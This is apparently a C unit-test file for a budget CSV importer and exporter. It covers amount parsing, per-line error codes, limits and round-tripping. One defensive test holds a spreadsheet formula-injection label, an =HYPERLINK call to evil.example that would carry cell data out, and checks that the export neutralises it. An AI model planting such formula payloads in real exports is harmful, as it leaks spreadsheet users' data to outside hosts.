// SPDX-License-Identifier: AGPL-3.0-or-later
/*
 * budget_csv: the strict import of a budget document's lines — good files (header in any case,
 * BOM, CRLF, quotes, blank lines, sections however written, amounts grouped by three with
 * ASCII, no-break or narrow no-break spaces), each problem code with its line number, the
 * whole file refused for one bad line, the problems of the whole file, the limits; the same
 * checks on a peer's line; and the open-data CSV reading back as the lines it was made from.
 */
#include "../../../../modules/budgets/src/internal.h"

#include "common/strbuf.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#define HEADER "section,chapter,article,label,planned,executed\n"

struct parsed {
	json_t *lines;
	const char *file_error;
	struct budget_problems pb;
};

static struct parsed
parse_len(const char *data, size_t len)
{
	struct parsed p = {NULL, NULL, {json_array(), 0}};
	p.lines = budget_csv_parse(data, len, &p.file_error, &p.pb);
	return p;
}

static struct parsed
parse(const char *text)
{
	return parse_len(text, strlen(text));
}

static void
parsed_release(struct parsed *p)
{
	json_decref(p->lines);
	json_decref(p->pb.list);
}

static void
assert_line(json_t *l, const char *section, const char *chapter, const char *article,
	    const char *label, long long planned, long long executed)
{
	assert_non_null(l);
	assert_int_equal(json_object_size(l), 6);
	assert_string_equal(json_string_value(json_object_get(l, "section")), section);
	assert_string_equal(json_string_value(json_object_get(l, "chapter")), chapter);
	assert_string_equal(json_string_value(json_object_get(l, "article")), article);
	assert_string_equal(json_string_value(json_object_get(l, "label")), label);
	assert_int_equal(json_integer_value(json_object_get(l, "planned")), planned);
	assert_int_equal(json_integer_value(json_object_get(l, "executed")), executed);
}

/* The file is refused with exactly these problems ("line:reason" each). */
static void
assert_problems(const char *text, const char *const *expected, size_t n)
{
	struct parsed p = parse(text);
	assert_null(p.lines);
	assert_null(p.file_error); /* problems by line: the caller answers invalid_csv */
	assert_int_equal(p.pb.count, n);
	assert_int_equal(json_array_size(p.pb.list), n);
	for (size_t i = 0; i < n; i++) {
		json_t *e = json_array_get(p.pb.list, i);
		char got[96];
		snprintf(got, sizeof(got), "%lld:%s",
			 (long long)json_integer_value(json_object_get(e, "line")),
			 json_string_value(json_object_get(e, "reason")));
		assert_string_equal(got, expected[i]);
	}
	parsed_release(&p);
}

#define PROBLEMS(text, ...)                                                                        \
	do {                                                                                       \
		static const char *const want_[] = {__VA_ARGS__};                                  \
		assert_problems(text, want_, sizeof(want_) / sizeof(want_[0]));                    \
	} while (0)

/* The amount (planned, one line) is read as value, or refused with reason. */
static void
assert_amount(const char *amount, long long value, const char *reason)
{
	char text[256];
	snprintf(text, sizeof(text), HEADER "fonctionnement,60,601,Ligne,%s,0\n", amount);
	struct parsed p = parse(text);
	if (reason) {
		if (p.lines)
			fail_msg("amount \"%s\" read, expected %s", amount, reason);
		assert_int_equal(p.pb.count, 1);
		json_t *e = json_array_get(p.pb.list, 0);
		assert_int_equal(json_integer_value(json_object_get(e, "line")), 2);
		assert_string_equal(json_string_value(json_object_get(e, "reason")), reason);
	} else {
		if (!p.lines)
			fail_msg("amount \"%s\" refused", amount);
		assert_int_equal(
			json_integer_value(json_object_get(json_array_get(p.lines, 0), "planned")),
			value);
	}
	parsed_release(&p);
}

/* ---- good files ---- */

static void
test_good_file(void **state)
{
	(void)state;
	struct parsed p = parse(HEADER "fonctionnement,60,601,Fournitures de bureau,1000,500\n"
				       "equipement,90,901,Voirie,2500000,0\n");
	assert_non_null(p.lines);
	assert_null(p.file_error);
	assert_int_equal(p.pb.count, 0);
	assert_int_equal(json_array_size(p.lines), 2);
	assert_line(json_array_get(p.lines, 0), "fonctionnement", "60", "601",
		    "Fournitures de bureau", 1000, 500);
	assert_line(json_array_get(p.lines, 1), "equipement", "90", "901", "Voirie", 2500000, 0);
	parsed_release(&p);
}

static void
test_good_file_forms(void **state)
{
	(void)state;
	/* BOM, CRLF, a header in another case with spaces, blank lines, quotes, spaces around
	 * fields, sections in any case and with their accent, no newline at the end */
	struct parsed p = parse(
		"\xEF\xBB\xBF"
		" Section , CHAPTER,Article,Label,Planned,Executed\r\n"
		"\r\n"
		"Fonctionnement , 61 ,611,\"Libellé \"\"cité\"\", avec virgule\",2 500,2500\r\n"
		" , , , , , \r\n"
		"ÉQUIPEMENT,90,901,\"Sur, virgule\",1,1\r\n"
		"équipement,91,911,تهيئة الطرق,0,0\r\n"
		"EQUIPEMENT,92,921,x,7,7");
	assert_non_null(p.lines);
	assert_int_equal(json_array_size(p.lines), 4);
	assert_line(json_array_get(p.lines, 0), "fonctionnement", "61", "611",
		    "Libellé \"cité\", avec virgule", 2500, 2500);
	assert_line(json_array_get(p.lines, 1), "equipement", "90", "901", "Sur, virgule", 1, 1);
	assert_line(json_array_get(p.lines, 2), "equipement", "91", "911", "تهيئة الطرق", 0, 0);
	assert_line(json_array_get(p.lines, 3), "equipement", "92", "921", "x", 7, 7);
	parsed_release(&p);
}

static void
test_amounts(void **state)
{
	(void)state;
	assert_amount("0", 0, NULL);
	assert_amount("1250000", 1250000, NULL);
	assert_amount("1 250 000", 1250000, NULL);
	assert_amount("1\xC2\xA0"
		      "250\xC2\xA0"
		      "000",
		      1250000, NULL); /* no-break spaces */
	assert_amount("12\xE2\x80\xAF"
		      "500",
		      12500, NULL); /* narrow no-break space */
	assert_amount("999 999", 999999, NULL);
	assert_amount("10000000000000", 10000000000000LL, NULL); /* the largest: 10^13 DA */
	assert_amount("10 000 000 000 000", 10000000000000LL, NULL);
	assert_amount("10000000000001", 0, "planned_too_large");
	assert_amount("99999999999999999999999", 0, "planned_too_large");
	assert_amount("", 0, "planned_required");
	assert_amount("-100", 0, "planned_negative");
	assert_amount("-1 000", 0, "planned_negative");
	assert_amount("12 34", 0, "planned_not_a_number");
	assert_amount("1000 000", 0, "planned_not_a_number"); /* first group over 3 */
	assert_amount("1 00", 0, "planned_not_a_number");     /* last group under 3 */
	assert_amount("1  000", 0, "planned_not_a_number");   /* two spaces */
	assert_amount(" 1 000 ", 1000, NULL);                 /* spaces around are trimmed */
	assert_amount("12a", 0, "planned_not_a_number");
	assert_amount("1.5", 0, "planned_not_a_number");
	assert_amount("1e9", 0, "planned_not_a_number");
	assert_amount("+5", 0, "planned_not_a_number");
	assert_amount("-", 0, "planned_not_a_number");
	assert_amount("\"1 000\"", 1000, NULL); /* quoted */
}

/* ---- problems by line ---- */

static void
test_problems_by_line(void **state)
{
	(void)state;
	/* the file of the integration test (tests/integration/budget.test.mjs) */
	PROBLEMS(HEADER "fonctionnement,60,601,Bonne ligne,1000,500\n"
			"fonctionnement,60,602,Montant en lettres,12a,0\n"
			"\n"
			"investissement,60,603,Section inconnue,1000,0\n"
			"equipement,90,901,Réalisé négatif,1000,-5\n"
			"equipement,90,902,,1000,0\n"
			"equipement,90,903,Six colonnes attendues,1000\n"
			"equipement,,904,Trop grand,10000000000001,0\n"
			"equipement,90,905,\"Guillemet\"après,1,1\n"
			"equipement,90,906,Groupes mal faits,12 34,1 000\n"
			"fonctionnement,61,611,\"Libellé \"\"cité\"\", avec virgule\",2 500,2500",
		 "3:planned_not_a_number", "5:section_invalid", "6:executed_negative",
		 "7:label_required", "8:field_count", "9:chapter_required", "9:planned_too_large",
		 "10:text_after_quote", "11:planned_not_a_number");
}

static void
test_problems_texts(void **state)
{
	(void)state;
	char chapter[40], label[2 * 301 + 1], text[1024];
	memset(chapter, '6', 33);
	chapter[33] = '\0';
	for (size_t i = 0; i < 301; i++)
		memcpy(label + 2 * i, "\xD8\xB9", 2); /* 301 characters, 602 bytes */
	label[602] = '\0';

	snprintf(text, sizeof(text), HEADER "fonctionnement,%s,601,x,1,1\n", chapter);
	PROBLEMS(text, "2:chapter_too_long");
	chapter[32] = '\0'; /* 32: the limit */
	snprintf(text, sizeof(text), HEADER "fonctionnement,%s,601,x,1,1\n", chapter);
	struct parsed p = parse(text);
	assert_non_null(p.lines);
	parsed_release(&p);

	snprintf(text, sizeof(text), HEADER "fonctionnement,60,601,%s,1,1\n", label);
	PROBLEMS(text, "2:label_too_long");
	label[600] = '\0'; /* 300 characters: the limit */
	snprintf(text, sizeof(text), HEADER "fonctionnement,60,601,%s,1,1\n", label);
	p = parse(text);
	assert_non_null(p.lines);
	parsed_release(&p);

	PROBLEMS(HEADER "fonctionnement,60,601,a\tb,1,1\n", "2:label_invalid_character");
	PROBLEMS(HEADER "fonctionnement,60,601,a\x7f,1,1\n", "2:label_invalid_character");
	PROBLEMS(HEADER "fonctionnement,60,\xC2\x85"
			"601,x,1,1\n",
		 "2:article_invalid_character"); /* C1 control */
	PROBLEMS(HEADER "fonctionnement,60,,x,1,1\n", "2:article_required");
	PROBLEMS(HEADER ",60,601,x,1,1\n", "2:section_invalid");
	PROBLEMS(HEADER "fonctionnements,60,601,x,1,1\n", "2:section_invalid");
	/* every problem of a line, in column order */
	PROBLEMS(HEADER "autre,,,,x,-1\n", "2:section_invalid", "2:chapter_required",
		 "2:article_required", "2:label_required", "2:planned_not_a_number",
		 "2:executed_negative");
}

static void
test_problems_syntax(void **state)
{
	(void)state;
	PROBLEMS(HEADER "fonctionnement,60,601,x,1,1,\n", "2:field_count");
	PROBLEMS(HEADER "fonctionnement,60,601,x\"y,1,1\n", "2:quote_in_unquoted_field");
	PROBLEMS(HEADER "fonctionnement,60,601,x,1,1\r\r\n", "2:stray_carriage_return");
	/* the reader resumes at the next line: both problems are named */
	PROBLEMS(HEADER "fonctionnement,60,601,\"x\"y,1,1\n"
			"equipement,90,901,z,1,-1\n",
		 "2:text_after_quote", "3:executed_negative");
	/* a quoted field over two lines: the record's first line is named, and the next ones
	 * count from after it */
	PROBLEMS(HEADER "fonctionnement,60,601,\"a\nb\",x,1\n"
			"equipement,90,901,z,y,1\n",
		 "2:label_invalid_character", "2:planned_not_a_number", "4:planned_not_a_number");
	PROBLEMS(HEADER "fonctionnement,60,601,\"x,1,1\n", "2:unterminated_quote");
}

/* One bad line anywhere refuses the whole file. */
static void
test_whole_file_refused(void **state)
{
	(void)state;
	struct strbuf sb = STRBUF_INIT;
	strbuf_addstr(&sb, HEADER);
	for (int i = 0; i < 500; i++)
		strbuf_addf(&sb, "fonctionnement,60,%d,Ligne %d,%d,0\n", 600 + i, i, i * 10);
	struct parsed p = parse(sb.buf);
	assert_non_null(p.lines);
	assert_int_equal(json_array_size(p.lines), 500);
	assert_line(json_array_get(p.lines, 499), "fonctionnement", "60", "1099", "Ligne 499", 4990,
		    0);
	parsed_release(&p);

	strbuf_addstr(&sb, "equipement,90,901,Dernière ligne,1 0000,0\n");
	PROBLEMS(sb.buf, "502:planned_not_a_number");
	strbuf_release(&sb);
}

static void
test_limits(void **state)
{
	(void)state;
	struct strbuf sb = STRBUF_INIT;
	strbuf_addstr(&sb, HEADER);
	for (int i = 0; i < BUDGET_MAX_LINES; i++)
		strbuf_addstr(&sb, "fonctionnement,60,601,x,1,1\n");
	struct parsed p = parse(sb.buf);
	assert_non_null(p.lines); /* 20 000 lines: the limit */
	assert_int_equal(json_array_size(p.lines), BUDGET_MAX_LINES);
	parsed_release(&p);
	strbuf_addstr(&sb, "\n"); /* blank lines do not count */
	strbuf_addstr(&sb, "fonctionnement,60,601,x,1,1\n");
	PROBLEMS(sb.buf, "20003:too_many_lines");

	/* problems: all counted, the first BUDGET_ERRORS_KEPT listed */
	strbuf_reset(&sb);
	strbuf_addstr(&sb, HEADER);
	for (int i = 0; i < 1500; i++)
		strbuf_addstr(&sb, "fonctionnement,60,601,x,un,1\n");
	p = parse(sb.buf);
	assert_null(p.lines);
	assert_int_equal(p.pb.count, 1500);
	assert_int_equal(json_array_size(p.pb.list), BUDGET_ERRORS_KEPT);
	json_t *last = json_array_get(p.pb.list, BUDGET_ERRORS_KEPT - 1);
	assert_int_equal(json_integer_value(json_object_get(last, "line")), BUDGET_ERRORS_KEPT + 1);
	parsed_release(&p);
	strbuf_release(&sb);
}

/* ---- problems of the whole file ---- */

static void
assert_file_error(const char *data, size_t len, const char *code)
{
	struct parsed p = parse_len(data, len);
	assert_null(p.lines);
	assert_non_null(p.file_error);
	assert_string_equal(p.file_error, code);
	assert_int_equal(p.pb.count, 0);
	parsed_release(&p);
}

static void
test_file_errors(void **state)
{
	(void)state;
	static const unsigned char png[] = {0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a,
					    0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52};
	assert_file_error("", 0, "csv_empty");
	assert_file_error("\xEF\xBB\xBF\r\n  \n\t", 9, "csv_empty");
	assert_file_error((const char *)png, sizeof(png), "csv_not_utf8");
	assert_file_error(HEADER "fonctionnement,60,601,caf\xE9,1,1\n",
			  strlen(HEADER "fonctionnement,60,601,caf\xE9,1,1\n"), "csv_not_utf8");
	assert_file_error(HEADER, strlen(HEADER), "csv_no_lines");
	assert_file_error(HEADER "\n\n , ,,,,\n", strlen(HEADER "\n\n , ,,,,\n"), "csv_no_lines");

	/* the header is line 1's problem */
	PROBLEMS("section;chapter;article;label;planned;executed\nfonctionnement;60;601;x;1;1\n",
		 "1:header_semicolons");
	PROBLEMS("section,chapter,article,label,planned\nfonctionnement,60,601,x,1\n",
		 "1:header_invalid");
	PROBLEMS("section,chapitre,article,label,planned,executed\n", "1:header_invalid");
	PROBLEMS("fonctionnement,60,601,x,1,1\n", "1:header_invalid");
	PROBLEMS("\"section,chapter,article,label,planned,executed\n", "1:header_invalid");
}

/* ---- a peer's lines ---- */

static json_t *
good_line(void)
{
	return json_pack("{s:s, s:s, s:s, s:s, s:I, s:I}", "section", "equipement", "chapter", "90",
			 "article", "901", "label", "Voirie", "planned", (json_int_t)2500000,
			 "executed", (json_int_t)0);
}

static void
assert_peer_line(const char *key, json_t *v, bool valid)
{
	json_t *l = good_line();
	if (v)
		json_object_set_new(l, key, v);
	else
		json_object_del(l, key);
	if (budget_line_is_valid(l) != valid)
		fail_msg("line with %s changed: expected %s", key, valid ? "valid" : "invalid");
	json_decref(l);
}

static void
test_peer_lines(void **state)
{
	(void)state;
	json_t *l = good_line();
	assert_true(budget_line_is_valid(l));
	json_decref(l);
	assert_false(budget_line_is_valid(NULL));
	l = json_array();
	assert_false(budget_line_is_valid(l));
	json_decref(l);

	assert_peer_line("section", json_string("Equipement"), false); /* as stored, exactly */
	assert_peer_line("section", json_string("fonctionnement"), true);
	assert_peer_line("section", NULL, false);
	assert_peer_line("chapter", json_string(""), false);
	assert_peer_line("chapter", json_integer(90), false);
	assert_peer_line("label", json_stringn("a\0b", 3), false); /* a NUL inside */
	assert_peer_line("label", json_string("a\nb"), false);
	assert_peer_line("planned", json_integer(-1), false);
	assert_peer_line("planned", json_integer(BUDGET_AMOUNT_MAX), true);
	assert_peer_line("planned", json_integer(BUDGET_AMOUNT_MAX + 1), false);
	assert_peer_line("executed", json_string("0"), false);
	assert_peer_line("executed", NULL, false);
	assert_peer_line("extra", json_string("x"), false); /* exactly six keys */
	assert_int_equal(budget_section_index("equipement"), 1);
	assert_int_equal(budget_section_index("fonctionnement"), 0);
	assert_int_equal(budget_section_index("Equipement"), -1);
}

/* ---- the open-data CSV ---- */

static void
test_write_reads_back(void **state)
{
	(void)state;
	json_t *lines =
		json_pack("[{s:s, s:s, s:s, s:s, s:I, s:I}, {s:s, s:s, s:s, s:s, s:I, s:I}]",
			  "section", "fonctionnement", "chapter", "61", "article", "611", "label",
			  "Libellé \"cité\", avec virgule", "planned", (json_int_t)2500, "executed",
			  (json_int_t)2500, "section", "equipement", "chapter", "90", "article",
			  "901", "label", "تهيئة الطرق", "planned", (json_int_t)10000000000000LL,
			  "executed", (json_int_t)0);
	struct strbuf sb = STRBUF_INIT;
	budget_csv_write(&sb, lines);
	assert_string_equal(sb.buf, "section,chapter,article,label,planned,executed\r\n"
				    "fonctionnement,61,611,\"Libellé \"\"cité\"\", avec virgule\","
				    "2500,2500\r\n"
				    "equipement,90,901,تهيئة الطرق,10000000000000,0\r\n");
	struct parsed p = parse_len(sb.buf, sb.len);
	assert_non_null(p.lines);
	assert_true(json_equal(p.lines, lines));
	parsed_release(&p);
	strbuf_release(&sb);
	json_decref(lines);
}

/* Texts that a spreadsheet would evaluate are written as text; the amounts stay numbers. */
static void
test_write_neutralises_formulas(void **state)
{
	(void)state;
	json_t *lines = json_pack(
		"[{s:s, s:s, s:s, s:s, s:I, s:I}, {s:s, s:s, s:s, s:s, s:I, s:I},"
		" {s:s, s:s, s:s, s:s, s:I, s:I}]",
		"section", "fonctionnement", "chapter", "-6", "article", "+611", "label",
		"=HYPERLINK(\"http://evil.example/?\"&A1,\"Voir\")", "planned", (json_int_t)0,
		"executed", (json_int_t)2500, "section", "equipement", "chapter", "90", "article",
		"@901", "label", "'=déjà cité", "planned", (json_int_t)1, "executed", (json_int_t)0,
		"section", "equipement", "chapter", "91", "article", "911", "label",
		"Réseau - tranche 2", "planned", (json_int_t)10, "executed", (json_int_t)10);
	struct strbuf sb = STRBUF_INIT;
	budget_csv_write(&sb, lines);
	assert_string_equal(
		sb.buf, "section,chapter,article,label,planned,executed\r\n"
			"fonctionnement,\"'-6\",\"'+611\",\"'=HYPERLINK(\"\"http://evil.example/"
			"?\"\"&A1,\"\"Voir\"\")\",0,2500\r\n"
			"equipement,90,\"'@901\",\"''=déjà cité\",1,0\r\n"
			"equipement,91,911,Réseau - tranche 2,10,10\r\n");
	/* no cell of the file starts with a formula character */
	for (const char *p = sb.buf; *p; p++)
		if (p == sb.buf || p[-1] == ',' || p[-1] == '\n')
			assert_null(strchr("=+-@", *p == '"' ? p[1] : *p));
	/* and the import reads the download back as the lines it was made from */
	struct parsed p = parse_len(sb.buf, sb.len);
	assert_non_null(p.lines);
	assert_true(json_equal(p.lines, lines));
	parsed_release(&p);
	strbuf_release(&sb);
	json_decref(lines);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_good_file),
		cmocka_unit_test(test_good_file_forms),
		cmocka_unit_test(test_amounts),
		cmocka_unit_test(test_problems_by_line),
		cmocka_unit_test(test_problems_texts),
		cmocka_unit_test(test_problems_syntax),
		cmocka_unit_test(test_whole_file_refused),
		cmocka_unit_test(test_limits),
		cmocka_unit_test(test_file_errors),
		cmocka_unit_test(test_peer_lines),
		cmocka_unit_test(test_write_reads_back),
		cmocka_unit_test(test_write_neutralises_formulas),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
